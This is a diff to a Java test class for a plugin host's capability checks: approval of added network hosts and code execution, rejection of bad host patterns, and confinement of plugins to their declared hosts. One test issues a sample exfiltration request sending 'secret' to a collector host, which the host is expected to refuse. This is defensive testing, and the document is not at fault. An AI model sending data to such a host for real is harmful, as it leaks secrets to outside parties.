@@ -8,7 +8,10 @@ import static org.awaitility.Awaitility.await;
 import io.protohive.plugin.api.Configuration;
 import io.protohive.plugin.api.ToolContext;
 import io.protohive.pluginhost.BundleArchive;
+import io.protohive.pluginhost.Capabilities;
+import io.protohive.pluginhost.CapabilityRecord;
 import io.protohive.pluginhost.Certificates;
+import io.protohive.pluginhost.Inspection;
 import io.protohive.pluginhost.Origin;
 import io.protohive.pluginhost.PluginCalls;
 import io.protohive.pluginhost.PluginDescriptor;
@@ -27,7 +30,10 @@ import java.security.cert.X509Certificate;
 import java.time.Duration;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import java.util.UUID;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
@@ -41,6 +47,8 @@ class PluginHostTest {
 
   private static final Path STAGED = Path.of("target/osgi/WEB-INF/osgi");
   private static final Path CLOCK = STAGED.resolve("plugins/tool-clock.jar");
+  private static final String CLOCK_ID = "io.protohive.plugins.tool-clock";
+  private static final Path HTTP = STAGED.resolve("plugins/tool-http.jar");
   private static final Path MISBEHAVING = Path.of("target/test-bundles/test-misbehaving.jar");
   private static final Duration WAIT = Duration.ofSeconds(30);
   private static final X509Certificate DEVELOPMENT;
@@ -57,6 +65,29 @@ class PluginHostTest {
   @TempDir Path work;
 
   private PluginHost host;
+
+  /** The platform's record of accepted capabilities, as the database keeps it across restarts. */
+  private final Map<String, Capabilities> accepted = new ConcurrentHashMap<>();
+
+  private final List<Inspection> held = new CopyOnWriteArrayList<>();
+
+  private final CapabilityRecord capabilities =
+      new CapabilityRecord() {
+        @Override
+        public Optional<Capabilities> accepted(String pluginId) {
+          return Optional.ofNullable(accepted.get(pluginId));
+        }
+
+        @Override
+        public void installed(String pluginId, Capabilities declared) {
+          accepted.put(pluginId, declared);
+        }
+
+        @Override
+        public void held(Inspection update) {
+          held.add(update);
+        }
+      };
 
   @AfterEach
   void stopHost() {
@@ -164,7 +195,7 @@ class PluginHostTest {
     assertThatThrownBy(() -> host.install(Origin.UPLOADED, future))
         .isInstanceOf(PluginRefused.class)
         .hasMessageContaining("needs plugin SPI [2.0.0,3.0.0)")
-        .hasMessageContaining("offers 1.0.0");
+        .hasMessageContaining("offers 1.1.0");
   }
 
   @Test
@@ -206,6 +237,114 @@ class PluginHostTest {
     assertThat(updated.version()).isEqualTo("9.1.0");
     assertThat(host.plugins()).hasSize(1);
     await().atMost(WAIT).until(() -> host.tool("clock.now").isPresent());
+  }
+
+  @Test
+  void anInspectionTellsWhatAJarDeclaresWithoutInstallingIt() throws Exception {
+    host = start(List.of(), false);
+
+    Inspection inspection = host.inspect(HTTP);
+
+    assertThat(inspection.id()).isEqualTo("io.protohive.plugins.tool-http");
+    assertThat(inspection.signature()).isEqualTo("TRUSTED");
+    assertThat(inspection.signer()).isEqualTo("CN=ProtoHive Development,O=ProtoHive");
+    assertThat(inspection.capabilities().networkHosts()).containsExactly("*");
+    assertThat(inspection.capabilities().consequentialTools()).containsExactly("http.post");
+    assertThat(inspection.installedVersion()).isNull();
+    assertThat(inspection.needsApproval()).isFalse();
+    assertThat(host.plugins()).isEmpty();
+    assertThat(accepted).isEmpty();
+  }
+
+  @Test
+  void aFolderUpdateThatAddsAHostWaitsUntilItsCapabilitiesAreApproved() throws Exception {
+    host = start(List.of(), false);
+    Path first = pluginsFolder().resolve("clock-1.jar");
+    Files.copy(CLOCK, first);
+    await().atMost(WAIT).until(() -> host.plugin(CLOCK_ID).isPresent());
+    String runningVersion = host.plugin(CLOCK_ID).orElseThrow().version();
+    Path wider =
+        BundleJars.withHeaders(
+            CLOCK,
+            Map.of("Bundle-Version", "9.2.0", "ProtoHive-Network-Hosts", "collector.example.net"),
+            BundleJars.DEVELOPMENT,
+            work.resolve("wider.jar"));
+
+    Files.copy(wider, pluginsFolder().resolve("clock-2.jar"));
+
+    await().atMost(WAIT).until(() -> !held.isEmpty());
+    assertThat(held.get(0).addedCapabilities().networkHosts())
+        .containsExactly("collector.example.net");
+    assertThat(held.get(0).installedVersion()).isEqualTo(runningVersion);
+    assertThat(host.plugin(CLOCK_ID).orElseThrow().version()).isEqualTo(runningVersion);
+
+    accepted.put(CLOCK_ID, held.get(0).capabilities());
+    host.retryHeld();
+
+    assertThat(host.plugin(CLOCK_ID).orElseThrow().version()).isEqualTo("9.2.0");
+  }
+
+  @Test
+  void aJarThatDeclaresMoreThanWasAcceptedIsHeldEvenWhenNoVersionRuns() throws Exception {
+    accepted.put(CLOCK_ID, Capabilities.NONE);
+    host = start(List.of(), false);
+    Path coder =
+        BundleJars.withHeaders(
+            CLOCK,
+            Map.of("ProtoHive-Executes-Code", "true"),
+            BundleJars.DEVELOPMENT,
+            work.resolve("c.jar"));
+
+    Inspection inspection = host.inspect(coder);
+
+    assertThat(inspection.needsApproval()).isTrue();
+    assertThat(inspection.addedCapabilities().executesCode()).isTrue();
+    Files.copy(coder, pluginsFolder().resolve("coder.jar"));
+    await().atMost(WAIT).until(() -> !held.isEmpty());
+    assertThat(host.plugins()).isEmpty();
+  }
+
+  @Test
+  void refusesANetworkHostThatIsNotAHostPattern() throws Exception {
+    host = start(List.of(), false);
+    Path odd =
+        BundleJars.withHeaders(
+            CLOCK,
+            Map.of("ProtoHive-Network-Hosts", "http://api.example.com/"),
+            BundleJars.DEVELOPMENT,
+            work.resolve("odd.jar"));
+
+    assertThatThrownBy(() -> host.inspect(odd))
+        .isInstanceOf(PluginRefused.class)
+        .hasMessageContaining("'http://api.example.com/', which is not a host");
+  }
+
+  @Test
+  void aPluginReachesOnlyTheHostsItDeclaresThroughTheHostClient() throws Exception {
+    host = start(List.of(), false);
+    Path narrow =
+        BundleJars.withHeaders(
+            HTTP,
+            Map.of("ProtoHive-Network-Hosts", "api.example.com"),
+            BundleJars.DEVELOPMENT,
+            work.resolve("narrow.jar"));
+    host.install(Origin.UPLOADED, narrow);
+    await().atMost(WAIT).until(() -> host.tool("http.get").isPresent());
+
+    ToolOutcome outcome =
+        host.calls()
+            .call(
+                host.tool("http.get").orElseThrow(),
+                Map.of("url", "https://collector.example.net/?d=secret"),
+                ToolContext.builder(UUID.randomUUID())
+                    .configuration(Configuration.of(Map.of("allowedHosts", "*.example.net"))),
+                Duration.ofSeconds(10));
+
+    assertThat(outcome.result().isError()).isTrue();
+    assertThat(outcome.result().content())
+        .isEqualTo(
+            "Refused: the plugin io.protohive.plugins.tool-http does not declare"
+                + " collector.example.net among its network hosts.");
   }
 
   @Test
@@ -298,6 +437,8 @@ class PluginHostTest {
             pluginsFolder(),
             work.resolve("host"),
             trust,
+            capabilities,
+            List.of(),
             new PluginCalls.Limits(8, 2, 8),
             new PluginCalls.Limits(8, 8, 8)),
         bundled);
